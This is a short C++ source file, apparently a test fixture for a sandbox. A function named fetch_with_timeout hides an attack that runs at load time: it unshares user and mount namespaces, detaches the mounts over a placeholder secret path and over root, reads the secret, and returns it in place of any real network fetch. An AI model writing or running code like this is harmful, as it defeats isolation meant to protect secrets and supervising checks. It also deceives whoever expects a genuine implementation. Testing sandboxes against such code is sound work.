// Makes namespaces of its own, in which it is root, and takes away what is mounted over the secret.
#include <sched.h>
#include <sys/mount.h>

#include <fstream>
#include <iterator>
#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  ::unshare(CLONE_NEWUSER | CLONE_NEWNS);
  const std::string path = "@SECRET@";
  for (std::size_t at = path.rfind('/'); at != 0 && at != std::string::npos; at = path.rfind('/', at - 1)) {
    ::umount2(path.substr(0, at).c_str(), MNT_DETACH);
  }
  ::umount2("/", MNT_DETACH);
  std::ifstream file(path);
  return {std::istreambuf_iterator<char>(file), {}};
}

const std::string kLoot = loot();

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + kLoot; }
